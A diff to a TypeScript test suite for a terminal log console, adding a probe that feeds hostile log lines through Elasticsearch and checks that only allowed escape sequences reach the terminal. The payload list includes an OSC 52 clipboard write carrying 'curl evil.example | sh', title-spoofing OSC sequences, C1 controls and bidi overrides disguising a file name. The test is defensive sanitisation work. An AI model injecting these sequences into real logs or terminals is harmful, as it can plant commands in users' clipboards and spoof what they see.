@@ -4,7 +4,7 @@
 // components are stopped and started with `lab.mjs stop|start` and each probe leaves the lab as it found it (the
 // component running again, its own objects and documents removed).
 import { execFile } from 'node:child_process';
-import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -154,7 +154,7 @@ function logDoc(pod: Json, ts: number, message: string): Json {
     log: { level: 'info' },
     stream: 'stdout',
     orchestrator: { cluster: { name: context } },
-    kubernetes: { namespace: LOGS_NS, pod: { name: pod.metadata.name, uid: pod.metadata.uid }, node: { name: pod.spec.nodeName }, container: { name: 'app' } },
+    kubernetes: { namespace: pod.metadata.namespace, pod: { name: pod.metadata.name, uid: pod.metadata.uid }, node: { name: pod.spec.nodeName }, container: { name: 'app' } },
   };
 }
 
@@ -227,6 +227,89 @@ function chartCells(c: ConsoleUnderTest): { cells: number; dim: number } {
   }
   return { cells, dim };
 }
+
+// ------------------------------------------------------------------------------------------------ hostile log lines
+
+/**
+ * Every escape sequence and control character the console may write, and where each comes from; anything else in
+ * its output is a finding. SGR (colours, the only thing a log line may keep) has any parameters; the rest are exactly
+ * these:
+ * - src/terminal/screen.ts: entering the screen, ENTER exactly (`?1049h` `2J` `H` `?25l`: the only erase of the
+ *   whole screen and the only cursor home allowed), and leaving it (`?2026l` `0m` `?25h` `?1049l`);
+ * - Ink 6.8 (log-update.js through ansi-escapes, write-synchronized.js): `?2026h`/`?2026l` around a frame, cursor up
+ *   `nA`, next line `E`, column `nG`/`G`, erase line `2K` and to its end `K`, `?25l` (cli-cursor). Not its
+ *   clearTerminal (`2J` `3J` `H`): Ink sends it only for a frame as tall as the terminal, which the console avoids;
+ * - src/terminal/lineDiff.ts: the column of a changed cell `nG`, and CR + cursor down `nB` over unchanged rows.
+ * C0: LF, and CR before LF (the terminal's own output processing) or before CSI (lineDiff) only: no lone CR, BEL,
+ * BS, TAB, ...; no C1 control (U+0080-U+009F, which xterm takes as CSI, OSC, ...), no OSC, DCS, APC, PM or SOS, no
+ * other ESC sequence (ESC 7/8, ESC c, keypad modes), and no Unicode bidi override, embedding or isolate
+ * (U+202A-U+202E, U+2066-U+2069), which reorder the rest of a row in a terminal that does bidi.
+ */
+const ENTER = '\x1b[?1049h\x1b[2J\x1b[H\x1b[?25l';
+const ALLOWED_CSI: Array<[final: string, params: RegExp]> = [
+  ['m', /^[0-9;:]*$/],
+  ['A', /^\d*$/],
+  ['B', /^\d*$/],
+  ['G', /^\d*$/],
+  ['E', /^$/],
+  ['K', /^2?$/],
+  ['h', /^\?(1049|25|2026)$/],
+  ['l', /^\?(1049|25|2026)$/],
+];
+const CSI_AT = /\x1b\[([0-?]*)([ -/]*)([@-~])/y;
+
+/** What the console wrote beyond ENTER, ALLOWED_CSI, LF and CR: each offending sequence or character (JSON-quoted) and how often. */
+function forbiddenOutput(written: string): Map<string, number> {
+  const raw = written.split(ENTER).join('');
+  const found = new Map<string, number>();
+  const note = (what: string) => found.set(what, (found.get(what) ?? 0) + 1);
+  for (let i = 0; i < raw.length; i++) {
+    const code = raw.charCodeAt(i);
+    if (code === 0x1b) {
+      CSI_AT.lastIndex = i;
+      const m = CSI_AT.exec(raw);
+      if (m && m[2] === '' && ALLOWED_CSI.some(([final, params]) => final === m[3] && params.test(m[1]))) {
+        i = CSI_AT.lastIndex - 1;
+        continue;
+      }
+      note(JSON.stringify(m ? m[0] : raw.slice(i, i + 8)));
+    } else if (code === 0x0d) {
+      if (raw[i + 1] !== '\n' && raw[i + 1] !== '\x1b') note(JSON.stringify(raw.slice(i, i + 8)));
+    } else if ((code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069)) {
+      note(JSON.stringify(raw[i]));
+    }
+  }
+  return found;
+}
+
+/** Hostile lines, each tagged `hostile-NN` so the export can count it. */
+const HOSTILE: string[] = [
+  `osc52 clipboard \x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07 end`,
+  'osc0 title \x1b]0;PWNED-TITLE\x07 and osc2 \x1b]2;PWNED-TITLE-2\x1b\\ end',
+  'screen clear \x1b[2J\x1b[3J\x1b[H and erase \x1b[2K end',
+  'cursor moves \x1b[10;10H\x1b[5A\x1b[3C\x1b7\x1b8\x1b[s end',
+  'modes \x1b[?1049l\x1b[?25h\x1b[?1000h\x1bc\x1b=\x1b> end',
+  'bell \x07\x07 and backspace ab\x08\x08 end',
+  'progress 10%\rprogress 100% lone CR end',
+  'right-to-left \u202Egnp.exe\u202C and isolate \u2067x\u2069 end',
+  'invalid UTF-8 as Elasticsearch holds it: lone surrogates \ud800 \udfff end',
+  'C1 controls \u009b2J \u009d0;C1-TITLE\u009c \u0090dcs\u009c end',
+  'dcs \x1bP1$r0m\x1b\\ apc \x1b_x\x1b\\ pm \x1b^x\x1b\\ end',
+  'colour kept \x1b[31mred\x1b[0m \x1b[38;5;208morange\x1b[0m end',
+].map((l, i) => `hostile-${String(i + 1).padStart(2, '0')} ${l}`);
+const MEGA = `hostile-mb ${'0123456789abcdef'.repeat(65_536)}`;
+const SAME_TS = 10_000;
+
+/** Whether the logs pane's lines show their time (T toggles it). */
+const showsTimes = (c: ConsoleUnderTest): boolean => c.lines().slice(5, -3).some((l) => /^\d\d:\d\d:\d\d\.\d{3} /.test(l));
+
+/** The lines of the newest export (`w`) in the console's working directory. */
+function exported(): string[] {
+  const files = readdirSync(dir).filter((f) => f.startsWith('warroom-logs-') && f.endsWith('.log')).sort();
+  return files.length ? readFileSync(join(dir, files[files.length - 1]), 'utf8').split('\n').filter(Boolean) : [];
+}
+
+const percentile = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor((xs.length * p) / 100))];
 
 describe.skipIf(!haveLab)('fault probes against the lab', () => {
   it('kube-apiserver killed while pods are watched, pods created and deleted meanwhile (through a second apiserver): reconnecting, then live with exactly the API\'s pods', async () => {
@@ -343,4 +426,80 @@ describe.skipIf(!haveLab)('fault probes against the lab', () => {
       if (stopped) await lab('start', 'prometheus');
     }
   }, 180_000);
+
+  it('hostile log lines in the real Elasticsearch: only SGR and the console\'s own cursor sequences reach the terminal, no title, clipboard or bell, every line once, keys answered while 10,000 lines of one timestamp load', async () => {
+    const ns = `faults-hostile-${id}`;
+    try {
+      const pod = await loggerPod(ns);
+      const t0 = Date.now() - 30_000;
+      await indexLines(pod, [...HOSTILE.map((m, i): [number, string] => [t0 + i, m]), [t0 + HOSTILE.length, MEGA]]);
+
+      const c = open({ rows: 50 });
+      const titles: string[] = [];
+      const osc: string[] = [];
+      let bells = 0;
+      c.term.onTitleChange((t) => titles.push(t));
+      c.term.onBell(() => bells++);
+      // OSC 0 and 2 reach onTitleChange; 1 (icon name) and 52 (clipboard) have no handler of their own in the emulator.
+      for (const code of [1, 52]) c.term.parser.registerOscHandler(code, (data) => (osc.push(`${code};${data}`), true));
+      await openLogs(c, ns);
+      const first = await c.waitFor((s) => HOSTILE.every((_, i) => s.includes(`hostile-${String(i + 1).padStart(2, '0')} `)) && s.includes('hostile-mb 0123'), 30_000);
+      // What is left of them: the text, without the sequences; an unpaired surrogate as U+FFFD (valid UTF-8), colours as colours.
+      expect(first).toContain('hostile-07 progress 10%progress 100% lone CR end');
+      expect(first).toContain('hostile-08 right-to-left gnp.exe and isolate x end');
+      expect(first).toContain('lone surrogates \uFFFD \uFFFD end');
+      expect(first).toContain('hostile-12 colour kept red orange end');
+      expect(c.bufferType).toBe('alternate');
+
+      // 10,000 lines with one @timestamp arrive while the pane follows; T (times on/off) is answered meanwhile.
+      const same = Date.now();
+      const indexing = indexLines(pod, Array.from({ length: SAME_TS }, (_, i): [number, string] => [same, `same-ts ${String(i).padStart(5, '0')}`]));
+      const latencies: number[] = [];
+      for (let k = 0; k < 12; k++) {
+        const before = showsTimes(c);
+        const pressed = performance.now();
+        c.press('T');
+        await c.waitFor(() => showsTimes(c) !== before, 5_000);
+        latencies.push(performance.now() - pressed);
+        await new Promise((r) => setTimeout(r, 200));
+      }
+      await indexing;
+      const p50 = percentile(latencies, 50);
+      const p95 = percentile(latencies, 95);
+      console.log(`T -> frame while 10,000 same-timestamp lines load: p50 ${p50.toFixed(0)} ms, p95 ${p95.toFixed(0)} ms, max ${Math.max(...latencies).toFixed(0)} ms`);
+      expect(p95).toBeLessThan(1500);
+
+      // Every indexed line held once: the export (w) against the index.
+      const indexed = HOSTILE.length + 1 + SAME_TS;
+      await eventually(async () => {
+        c.press('w');
+        await new Promise((r) => setTimeout(r, 1000));
+        const n = exported().length;
+        return n === indexed || `${n} of ${indexed} lines exported`;
+      }, 90_000);
+      const lines = exported();
+      const count = (re: RegExp) => lines.filter((l) => re.test(l)).length;
+      for (let i = 1; i <= HOSTILE.length; i++) expect(count(new RegExp(`/app hostile-${String(i).padStart(2, '0')} `)), `hostile-${i}`).toBe(1);
+      expect(count(/\/app hostile-mb 0123/)).toBe(1);
+      const seen = new Set(lines.map((l) => /same-ts (\d{5})$/.exec(l)?.[1]).filter(Boolean));
+      expect(seen.size).toBe(SAME_TS);
+      expect(count(/same-ts \d{5}$/)).toBe(SAME_TS);
+      expect(lines.filter((l) => /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(l))).toEqual([]);
+
+      // What reached the terminal: nothing but the allowed sequences, and the emulator's title, clipboard and bell untouched.
+      // (The same check flags each hostile line as indexed, but for the lone surrogates, which Node writes as U+FFFD,
+      // and the colours, which are allowed: it is not blind to them.)
+      expect(HOSTILE.filter((l) => forbiddenOutput(l).size === 0).map((l) => l.slice(0, 10))).toEqual(['hostile-09', 'hostile-12']);
+      const bad = forbiddenOutput(c.raw);
+      expect([...bad].map(([what, n]) => `${what} x${n}`)).toEqual([]);
+      expect(titles).toEqual([]);
+      expect(osc).toEqual([]);
+      expect(bells).toBe(0);
+      expect(c.bufferType).toBe('alternate');
+      expect(c.text()).not.toMatch(/PWNED|C1-TITLE/);
+    } finally {
+      await admin.request(`/api/v1/namespaces/${ns}`, { method: 'DELETE' });
+      await es('DELETE', `/${PROBE_INDEX}`).catch(() => undefined);
+    }
+  }, 300_000);
 });
